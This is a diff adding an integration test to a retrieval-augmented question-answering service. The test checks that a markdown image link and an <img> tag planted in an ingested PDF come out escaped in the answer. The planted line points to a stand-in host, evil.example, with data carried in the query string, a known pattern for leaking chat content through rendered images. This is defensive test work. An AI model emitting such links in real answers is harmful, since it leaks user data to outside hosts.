@@ -17,9 +17,10 @@ from langchain_openai import ChatOpenAI
 from openai.types.chat import ChatCompletion, ChatCompletionChunk, ChatCompletionMessageParam
 from pydantic import SecretStr
 
+from ingest.discovery import discover
 from rag.prompt import NOT_FOUND
 from rag.service import work
-from tests.fakes import ScriptedModel
+from tests.fakes import BagOfWordsEncoder, ScriptedModel, ingest_job, make_pdf
 from tests.integration.conftest import Running, post, python_blocks, wait_until
 
 QUESTION = "What does a berth cost for a night?"
@@ -129,6 +130,23 @@ def test_an_abstention_is_an_answer(service: Running, client: openai.OpenAI) -> 
     assert (said, heading) == ("The documents do not answer this question.", "Nearest passages:")
     assert notes[0] == NOTES[0]
     assert extra(completion)["answered"] is False
+
+
+def test_a_picture_that_a_document_asks_for_stays_text(
+    documents: Path, index: Path, serve: Callable[..., Running]
+) -> None:
+    said = "A berth costs 30 euros ![x](https://evil.example/x.png?q=berth) <img src=//evil.example> for each night."
+    make_pdf(documents / "a](b).pdf", [said])
+    ingest_job(index, BagOfWordsEncoder()).run(discover([documents]))
+    with client_of(serve(ScriptedModel([f"{said} It is so."]))) as client:
+        completion = client.chat.completions.create(model="x", messages=ASKED)
+    native = extra(completion)
+    assert native["citations"][0]["quote"] == said
+    text = completion.choices[0].message.content or ""
+    assert r"![x]\(https:\//evil.example/x.png?q=berth) \<img src=//evil.example> for each night." in text
+    assert r"[1] a]\(b).pdf, page 1: “" in text
+    assert "](" not in text
+    assert "://" not in text
 
 
 def test_earlier_turns_are_history_without_their_footnotes(service: Running, client: openai.OpenAI) -> None:
